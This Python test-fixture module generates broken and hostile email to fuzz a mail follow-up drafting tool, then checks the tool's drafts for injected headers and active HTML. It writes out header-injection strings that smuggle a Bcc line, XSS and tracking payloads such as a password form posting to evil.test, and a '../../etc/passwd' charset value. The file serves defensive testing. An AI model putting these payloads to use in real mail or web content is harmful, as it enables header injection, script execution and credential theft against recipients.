"""Broken and malicious mail, as raw RFC 5322 bytes (issue 9, part 5).

Two front ends over one builder: ``generate(seed, count, sizes)`` (a plain
``random.Random``, for the full-size campaign in ``benchmarks/hostile.py``) and
``hostile_messages()`` (a hypothesis strategy, for the tests). Many messages
*look like* the user's own threads: sent by me@example.org with hostile
subjects, names, bodies and HTML (those are quoted into drafts), or answers
to them whose subjects and names aim at the draft's headers.

Hostile mail never touches the good threads of ``tests/scenario.py``: its
contacts live under hostile.example / evil.test (those the user wrote to under
target-hostile.example / target-evil.test) and its subjects never
equal theirs, so those threads must be decided exactly as without it.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from email.utils import format_datetime
from html.parser import HTMLParser

ME = "me@example.org"
FAMILIES = ("charset", "rfc2047", "8bit", "ids", "longline", "addresses", "nesting", "bigbody", "inject", "html")
ROLES = ("sent", "reply", "stranger")
TZ = timezone(timedelta(hours=1))
FIRST_SENT = datetime(2026, 11, 10, 14, 0, tzinfo=TZ)  # sent mail falls between this and LAST_SENT
LAST_SENT = datetime(2026, 12, 1, 16, 0, tzinfo=TZ)


@dataclass(frozen=True)
class Sizes:
    """How big the giants are: the full campaign's, or a test's."""

    header_line: int = 1 << 20  # one header line of 1 MiB
    addresses: int = 100_000
    depth: int = 1000
    body: int = 50 << 20  # 50 MB
    giants: int = 3  # how many messages of each giant kind at least


FULL = Sizes()
SMALL = Sizes(header_line=128 << 10, addresses=3000, depth=1000, body=2 << 20, giants=1)
TINY = Sizes(header_line=16 << 10, addresses=300, depth=120, body=256 << 10, giants=1)  # for hypothesis


@dataclass(frozen=True)
class Hostile:
    raw: bytes
    folder: str  # Sent, INBOX or Archive
    family: str
    role: str
    when: datetime  # the arrival time (INTERNALDATE)
    message_id: str | None  # as written, when it has one
    giant: str | None = None  # "header_line", "addresses", "depth" or "body"


# --- hostile pieces ---------------------------------------------------------------------------------

def _b64w(text: str, charset: str = "utf-8") -> str:
    return f"=?{charset}?b?{base64.b64encode(text.encode(charset, 'replace')).decode()}?="


# Aimed at the draft's headers: every way a newline might ride along in a subject or a name.
INJECT = (
    "hi\r\nBcc: evil@x.test",
    "=?utf-8?q?x=0D=0ABcc:_evil@x.test?=",
    "=?utf-8?q?x=0D=0ABcc=3A_evil=40x.test?=",
    _b64w("x\r\nBcc: evil@x.test\r\nX-Injected: 1"),
    "=?iso-8859-1?q?x=0ABcc=3A_evil=40x.test?=",
    "=?utf-8?q?a?=\r\n =?utf-8?q?=0D=0AX-Injected:_1?=",
    "x\rBcc: evil@x.test",
    "x\u2028Bcc: evil@x.test",
    "x\x85Bcc: evil@x.test",
    "x\x0bX-Injected: 1\x0cY",
    "x\x1cX-Injected: 1\x1d\x1e",
    "x\x00Bcc: evil@x.test",
    _b64w("\u2028X-Injected: 1\u2029"),
    "=?utf-8?q?=E2=80=A8X-Injected:_1?=",
    "\r\n\r\nX-Injected: body-split",
)
BROKEN_WORDS = (
    "=?utf-8?q?unterminated", "=?utf-8?b?!!!not base64!!!?=", "=?utf-8?z?abc?=", "=??q?x?=",
    "=?no-such-charset?q?caf=E9?=", "=?utf-8*en?q?x?=", "=?utf-8?b?YWJj?==?utf-8?b?ZGVm?=",
    "=?utf-8?q?=3D=3Futf-8=3Fq=3Fx=0D=0A=3F=3D?=", "=?" * 50, "=?utf-8?b?" + "A" * 7 + "?=",
    "=?utf-7?q?+ZeVnLIqe-?=", "=?iso-2022-jp?b?GyRCJUYlOSVIGyhC?=", "=?koi8-r?b?8NLJ18XU?=",
    "=?utf-16?b?//5oAGkA?=", "=?utf-8?q?\xff\xfe?=",
)
CHARSETS = ("x-no-such-charset", "utf-7", "iso-2022-jp", "utf-16", "utf-8", "us-ascii", "cp1252", "koi8-r",
            "", "utf-8\"; x=\"", "../../etc/passwd", "utf-8\r\nBcc: evil@x.test", "\x00")
HTML_ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=\"https://tracker.evil.test/p.gif?u=me\" width=1 height=1>",
    "<img/src=x onerror=alert(1)>",
    "<picture><source srcset=\"https://evil.test/a.png\"><img src=a.png></picture>",
    "<form action=\"https://evil.test/steal\" method=post><input name=pw type=password><button>Go</button></form>",
    "<iframe src=\"https://evil.test/frame\"></iframe>",
    "<style>body{background:url(https://evil.test/bg.png)} @import url(https://evil.test/x.css);</style>",
    "<p style=\"background-image:url('https://evil.test/s.png')\">styled</p>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">click2</a>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<body onload=\"alert(1)\" background=\"https://evil.test/b.png\">",
    "<object data=\"https://evil.test/o.swf\"></object><embed src=\"https://evil.test/e\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.test\">",
    "<base href=\"https://evil.test/\">",
    "<!--><script>alert(1)</script>-->",
    "<table background=\"https://evil.test/t.png\"><tr><td>cell</td></tr></table>",
    "<video poster=\"https://evil.test/p.png\" src=\"https://evil.test/v.mp4\"></video>",
    "<div onmouseover=\"alert(1)\">hover</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
)
ODD_CHARS = "\r\n\x00\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029\ufeff\u202e\ud7ff\U0001f600<>\"',;:@()\\=?_ \t"


def _words(rng: random.Random, n: int) -> str:
    vocab = ("hello", "project", "update", "invoice", "status", "offer", "tomorrow", "Grüße", "tack", "hei", "東京",
             "naïve", "report", "question", "data")
    return " ".join(rng.choice(vocab) for _ in range(n))


def _subject(rng: random.Random, i: int) -> str:
    """A subject of its own (so no good thread ever matches it by subject)."""
    return f"Hostile {i} {_words(rng, 2)}"


def _contact(rng: random.Random, written_to: bool = False) -> str:
    """A hostile correspondent. Those the user wrote to are at organisations of their own: hostile mail from
    the others is no answer to them (issue 18), so their threads are drafted, quoting what they hold."""
    number, domain = rng.randrange(500), rng.choice(('hostile.example', 'evil.test'))
    return f"c{number}@{'target-' if written_to else ''}{domain}"


# --- assembling ---------------------------------------------------------------------------------------

def _enc(value: str | bytes) -> bytes:
    return value if isinstance(value, bytes) else value.encode("utf-8", "surrogatepass")


def assemble(fields: list[tuple[str, str | bytes]], body: bytes) -> bytes:
    out = bytearray()
    for name, value in fields:
        out += name.encode() + b": " + _enc(value) + b"\r\n"
    out += b"\r\n" + body
    return bytes(out)


def _text_part(text: str | bytes, charset: str = "utf-8") -> tuple[list[tuple[str, str | bytes]], bytes]:
    data = _enc(text)
    return [("Content-Type", f"text/plain; charset=\"{charset}\""), ("Content-Transfer-Encoding", "8bit")], data


def _html_doc(rng: random.Random, extra: str = "") -> str:
    attacks = rng.sample(HTML_ATTACKS, rng.randint(3, 8))
    return ("<html><head><title>t</title>" + attacks[0] + "</head><body><p>Dear colleague,</p>"
            + "".join(attacks[1:]) + f"<p>{_words(rng, 12)}</p>{extra}<p>Best regards</p></body></html>")


def _alternative(text: str, markup: str, boundary: str = "alt-b") -> tuple[list[tuple[str, str | bytes]], bytes]:
    body = (f"--{boundary}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n"
            f"--{boundary}\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{markup}\r\n--{boundary}--\r\n")
    return [("MIME-Version", "1.0"), ("Content-Type", f"multipart/alternative; boundary=\"{boundary}\"")], _enc(body)


def _nested(depth: int, leaf: str, rfc822: bool) -> tuple[list[tuple[str, str | bytes]], bytes]:
    """A multipart (or message/rfc822) tree ``depth`` levels deep, built without recursion."""
    inner = f"Content-Type: text/plain; charset=utf-8\r\n\r\n{leaf}\r\n".encode()
    for level in reversed(range(1, depth)):
        if rfc822:
            inner = (b"Content-Type: message/rfc822\r\n\r\nFrom: deep@hostile.example\r\nSubject: level "
                     + str(level).encode() + b"\r\n" + inner)
        else:
            b = f"n{level}".encode()
            inner = (b"Content-Type: multipart/mixed; boundary=\"" + b + b"\"\r\n\r\n--" + b + b"\r\n" + inner
                     + b"\r\n--" + b + b"--\r\n")
    if rfc822:
        return [("MIME-Version", "1.0"), ("Content-Type", "message/rfc822")], \
            b"From: deep@hostile.example\r\nSubject: level 0\r\n" + inner
    return [("MIME-Version", "1.0"), ("Content-Type", "multipart/mixed; boundary=\"n0\"")], \
        b"--n0\r\n" + inner + b"\r\n--n0--\r\n"


def build(family: str, role: str, i: int, rng: random.Random, sizes: Sizes, replies_to: list[str],
          giant: str | None = None, odd: str = "") -> Hostile:
    """One hostile message of ``family`` in ``role``; ``giant`` asks for the family's giant size.

    ``odd`` is extra hostile text (hypothesis draws it) mixed into the subject, a name and the body.
    """
    if role == "sent":
        when = FIRST_SENT + timedelta(days=rng.randrange((LAST_SENT - FIRST_SENT).days + 1),
                                      hours=rng.uniform(0, 2))
        if when.weekday() == 2:  # never a Wednesday: the follow-up avoids the weekday of the last message
            when -= timedelta(days=1)
        folder = "Sent"
        sender, to = f"Me Myself <{ME}>", _contact(rng, written_to=True)
        mid: str | None = f"<h-sent-{i}@example.org>"
    else:
        when = LAST_SENT + timedelta(days=rng.uniform(1, 6))
        folder = rng.choice(("INBOX", "Archive"))
        sender, to = f"{_words(rng, 1).title()} <{_contact(rng)}>", f"Me <{ME}>"
        mid = f"<h-{role}-{i}@hostile.example>"
    subject = _subject(rng, i) + odd
    fields: list[tuple[str, str | bytes]] = [("From", sender), ("To", to), ("Subject", subject),
                                             ("Date", format_datetime(when)), ("Message-ID", mid or "")]
    if role == "reply" and replies_to:
        parent = rng.choice(replies_to)
        fields += [("In-Reply-To", parent), ("References", parent)]
    text = f"Hello,\n\n{_words(rng, 20)}{odd}\n\nCould you have a look?\n".replace("\n", "\r\n")
    content, body = _text_part(text)
    content = [("MIME-Version", "1.0")] + content

    def put(name: str, value: str | bytes) -> None:
        for k, (n, _) in enumerate(fields):
            if n == name:
                fields[k] = (name, value)
                return
        fields.append((name, value))

    if family == "charset":
        charset = rng.choice(CHARSETS)
        raw_text = rng.choice((text.encode("latin-1", "replace"), b"\xff\xfe\xfd caf\xe9 \x1b$B%F%9%H\x1b(B",
                               "Grüße 東京 \U0001f600".encode("utf-16"), text.encode("utf-8")))
        content, body = _text_part(raw_text, charset)
        content = [("MIME-Version", "1.0")] + content
        put("Subject", " ".join(rng.sample(BROKEN_WORDS[10:], 2)) + " " + subject)
    elif family == "rfc2047":
        put("Subject", " ".join(rng.sample(BROKEN_WORDS, 3)) + odd)
        if role != "sent":
            put("From", f"{rng.choice(BROKEN_WORDS)} <{_contact(rng)}>")
        else:
            put("To", f"{rng.choice(BROKEN_WORDS)} <{_contact(rng)}>")
    elif family == "8bit":
        put("Subject", b"Hostile " + str(i).encode() + b" caf\xe9 \xff\xfe\x00 na\xc3\xafve \xc3")
        name = rng.choice((b"J\xf6rg M\xfcller", b"\xe6\x9d\xb1\xe4\xba\xac", b"\xff\xfe\x00", b"Bj\xc3rn"))
        if role == "sent":
            put("To", name + b" <" + _contact(rng).encode() + b">")
        else:
            put("From", name + b" <" + _contact(rng).encode() + b">")
        body = b"caf\xe9 \xff\xfe \x00 raw 8-bit body\r\n"
        content = [("MIME-Version", "1.0"), ("Content-Type", "text/plain")]
    elif family == "ids":
        variant = rng.randrange(9)
        if variant == 0:
            fields = [f for f in fields if f[0] != "Message-ID"]
            mid = None
        elif variant == 1:
            fields.append(("Message-ID", f"<dup-{i}@hostile.example>"))
        elif variant == 2:
            put("Message-ID", rng.choice(("<>", "< spaced id @x >", "no-brackets@x", "<a@b><c@d>", "<<<>>>")))
            mid = None
        elif variant == 3:
            fields = [f for f in fields if f[0] != "Date"]
        elif variant == 4:
            put("Date", rng.choice(("Tue, 99 Foo 99999 99:99:99 +9999", "yesterday", "", "Mon, 31 Feb 2026 10:00 +0100",
                                    "Fri, 01 Jan 10000 00:00:00 +0000", "0", "Thu, 01 Jan 1970 00:00:00 -2359")))
        elif variant == 5:
            fields.append(("Date", "Sat, 01 Jan 2000 00:00:00 +0000"))
        elif variant == 6 and role != "sent":
            fields = [f for f in fields if f[0] != "From"]
        elif variant == 7:
            fields.append(("From", f"Other <{_contact(rng)}>"))
        else:
            put("From" if role != "sent" else "To", rng.choice(("undisclosed-recipients:;", "\"\" <>", "@", "<@>",
                                                                 "a@b@c", "me@example.org (comment")))
    elif family == "longline":
        n = sizes.header_line if giant else rng.randrange(1000, 8000)
        which = rng.randrange(5)
        if which == 0:
            put("Subject", "Hostile long " + "A" * n)
        elif which == 1:
            put("Subject", "=?utf-8?q?x?= " * (n // 14))
        elif which == 2:
            put("References", " ".join(f"<r{k}@hostile.example>" for k in range(n // 22)))
        elif which == 3:
            fields.append(("X-Junk", "j" * n))
        else:
            put("From" if role != "sent" else "To", "(" * (n // 2) + f" <{_contact(rng)}>")
    elif family == "addresses":
        n = sizes.addresses if giant else rng.randrange(20, 200)
        forms = [lambda k: f"p{k}@bulk{k % 97}.hostile.example", lambda k: f"\"P, {k}\" <p{k}@hostile.example>",
                 lambda k: f"=?utf-8?q?P=C3=A9_{k}?= <q{k}@hostile.example>"]
        listed = ", ".join(forms[k % 3](k) for k in range(n))
        if rng.random() < 0.5:
            listed += ", broken((, <x@>"  # forces the strict parser
        if role == "sent":
            put("To", listed)
        else:
            fields.append(("Cc", listed))
    elif family == "nesting":
        depth = sizes.depth if giant else rng.randrange(20, 80)
        content, body = _nested(depth, f"deep text {_words(rng, 5)}{odd}", rfc822=rng.random() < 0.3)
    elif family == "bigbody":
        n = sizes.body if giant else rng.randrange(70_000, 300_000)
        line = (_words(rng, 10) + "\r\n").encode()
        kind = rng.randrange(3)
        if kind == 0:
            body = line * (n // len(line))
        elif kind == 1:
            content = [("MIME-Version", "1.0"), ("Content-Type", "text/plain; charset=utf-8"),
                       ("Content-Transfer-Encoding", "base64")]
            chunk = base64.encodebytes(line * 57)
            body = chunk * (n // len(chunk))
        else:
            content = [("MIME-Version", "1.0"), ("Content-Type", "text/html; charset=utf-8")]
            block = f"<p>{_words(rng, 10)}</p><img src=\"https://evil.test/{{}}.png\">\r\n".encode()
            body = b"<html><body>" + block * (n // len(block)) + b"</body></html>"
    elif family == "inject":
        payload = rng.choice(INJECT)
        put("Subject", f"Hostile {i} " + payload + odd)
        name = rng.choice(INJECT) + odd
        target = "To" if role == "sent" else "From"
        address = _contact(rng)
        if "\r\n" in name and rng.random() < 0.5:
            put(target, f"\"{name}\" <{address}>")
        else:
            put(target, f"{name} <{address}>")
        if rng.random() < 0.5:
            fields.append(("Cc", f"{rng.choice(INJECT)} <{_contact(rng)}>"))
    elif family == "html":
        markup = _html_doc(rng, odd.replace("<", "&lt;"))
        if rng.random() < 0.5:
            content = [("MIME-Version", "1.0"), ("Content-Type", "text/html; charset=utf-8")]
            body = markup.encode()
        else:
            content, body = _alternative(f"Dear colleague,\r\n{_words(rng, 12)}\r\n", markup)
    raw = assemble(fields + content, body)
    return Hostile(raw, folder, family, role, when, mid if mid and any(
        n == "Message-ID" and v == mid for n, v in fields) else None, giant)


GIANTS = {"longline": "header_line", "addresses": "addresses", "nesting": "depth", "bigbody": "body"}


def generate(seed: int, count: int, sizes: Sizes = FULL) -> Iterator[Hostile]:
    """``count`` hostile messages, the same for the same seed: every family and role, the giants
    ``sizes.giants`` times each (in every role but the last), the rest at moderate sizes."""
    rng = random.Random(seed)
    sent_ids: list[str] = []
    plan: list[tuple[str, str, str | None]] = []
    for family, giant in GIANTS.items():
        for k in range(sizes.giants):
            plan.append((family, ("sent", "reply", "stranger")[k % 3], giant))
    for family in FAMILIES:
        for role in ROLES:
            plan.append((family, role, None))
    while len(plan) < count:
        plan.append((rng.choice(FAMILIES), rng.choices(ROLES, (4, 4, 2))[0], None))
    for i, (family, role, giant) in enumerate(plan[:count]):
        message = build(family, role, i, rng, sizes, sent_ids[-200:], giant)
        if role == "sent" and message.message_id:
            sent_ids.append(message.message_id)
        yield message


# --- hypothesis ---------------------------------------------------------------------------------------

def hostile_messages(sizes: Sizes = TINY):  # type: ignore[no-untyped-def]
    """A hypothesis strategy of ``Hostile`` messages: family, role and hostile text drawn, the rest seeded."""
    from hypothesis import strategies as st

    def make(family: str, role: str, odd: str, seed: int, giant: bool) -> Hostile:
        rng = random.Random(seed)
        return build(family, role, seed % 1000, rng, sizes, [f"<h-sent-{k}@example.org>" for k in range(3)],
                     GIANTS.get(family) if giant else None, odd)

    return st.builds(make, st.sampled_from(FAMILIES), st.sampled_from(ROLES),
                     st.text(alphabet=st.sampled_from(ODD_CHARS) | st.characters(), max_size=40),
                     st.integers(0, 2**32), st.booleans())


# --- checks on a draft ------------------------------------------------------------------------------

DRAFT_HEADERS = {"x-mail-followup-check", "from", "to", "cc", "subject", "date", "message-id", "in-reply-to",
                 "references", "x-mail-followup-for", "x-mail-followup-attempt", "auto-submitted", "mime-version",
                 "content-type", "content-transfer-encoding", "content-language"}
PART_HEADERS = {"content-type", "content-transfer-encoding", "mime-version"}


class _Active(HTMLParser):
    """Finds what a mail client would run or load: tags, handlers, scripts and remote references."""

    BAD_TAGS = {"script", "img", "form", "iframe", "frame", "style", "link", "object", "embed", "meta", "base",
                "svg", "picture", "source", "video", "audio", "input", "button", "math", "applet"}
    URL_ATTRS = {"src", "srcset", "background", "poster", "data", "action", "formaction", "lowsrc", "dynsrc"}

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in self.BAD_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            value = (value or "").lower()
            squeezed = "".join(value.split())
            if name.startswith("on"):
                self.found.append(f"{tag} {name}=")
            if name in self.URL_ATTRS:
                self.found.append(f"{tag} {name}= (a remote or loaded reference)")
            if "javascript:" in squeezed or "vbscript:" in squeezed or "data:" in squeezed[:5]:
                self.found.append(f"{tag} {name}=javascript:")
            if name == "style" and ("url(" in squeezed or "expression(" in squeezed or "@import" in squeezed):
                self.found.append(f"{tag} style with url(")

    handle_startendtag = handle_starttag


def draft_problems(raw: bytes) -> list[str]:
    """Everything wrong with a draft as the product wrote it: an injected or unexpected header, a Bcc, a
    line break inside a header value, and in its HTML anything active or loaded from afar."""
    from email import message_from_bytes, policy

    problems: list[str] = []
    head = raw.split(b"\r\n\r\n", 1)[0]
    for line in head.split(b"\r\n"):
        if line[:1] in (b" ", b"\t"):
            continue
        name = line.split(b":", 1)[0].decode("latin-1").strip().lower()
        if name not in DRAFT_HEADERS:
            problems.append(f"unexpected header line {line[:80]!r}")
    if b"\r" in head.replace(b"\r\n", b"") or b"\n" in head.replace(b"\r\n", b""):
        problems.append("a bare CR or LF in the header block")
    msg = message_from_bytes(raw, policy=policy.default)
    for part in msg.walk():
        allowed = DRAFT_HEADERS if part is msg else PART_HEADERS
        for name, value in part.items():
            if name.lower() not in allowed:
                problems.append(f"unexpected header {name}")
            if name.lower() == "bcc":
                problems.append("a Bcc header")
            text = str(value)
            if any(c in text for c in "\r\n\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029\x00"):
                problems.append(f"a line break inside {name}: {text[:80]!r}")
        if part.get_content_type() == "text/html":
            markup = part.get_content()
            lowered = markup.lower()
            for needle in ("<script", "<img", "<form", "<iframe", "<style", "<link", "<object", "<embed"):
                if needle in lowered:
                    problems.append(f"html has {needle}")
            finder = _Active()
            finder.feed(markup)
            finder.close()
            problems += [f"html has {f}" for f in finder.found]
    return problems


# --- the pure path of one message -----------------------------------------------------------------------

NOW = datetime(2026, 12, 9, 9, 30, tzinfo=TZ)
BODY_LIMIT = 65536  # what a scan fetches of a body it classifies (Mailbox.fetch_bodies)


def header_block(raw: bytes) -> bytes:
    cut = raw.find(b"\r\n\r\n")
    return raw if cut < 0 else raw[:cut + 2]


def pure_pass(message: Hostile, uid: int = 1) -> tuple[list[str], object]:
    """What a scan does with one message, without a server: parse its headers, classify it, read its body,
    and, where it is the user's, compose a draft that quotes it. Return the draft's problems and the draft
    (None when there is none). Raises whatever the code under test raises."""
    from mail_followup.core import bodies
    from mail_followup.core import classify
    from mail_followup.core.compose import Quoted, as_bytes, compose
    from mail_followup.core.headers import parse_header_block
    from mail_followup.core.policy import Decision
    from mail_followup.core.threads import build_threads

    mail = parse_header_block(message.folder, uid, header_block(message.raw), (b"\\Seen",), message.when)
    head = message.raw[:BODY_LIMIT]
    if message.role == "sent":
        classify.classify_sent(head)
    else:
        classify.classify_inbound(mail, head)
    latest = Quoted(*bodies.read_body(message.raw))
    threads = [t for t in build_threads([mail], [ME]) if t.key == mail.message_id]
    if not threads:
        return [], None
    thread = threads[0]
    decision = Decision(thread.key, "due", "default", 1, "first", None, ())
    try:
        draft = as_bytes(compose(thread, decision, (ME,), NOW, latest, None))
    except ValueError as exc:  # the one refusal compose documents; scan reports it for the thread
        if "no usable From address" in str(exc):
            return [], None
        raise
    return draft_problems(draft), draft
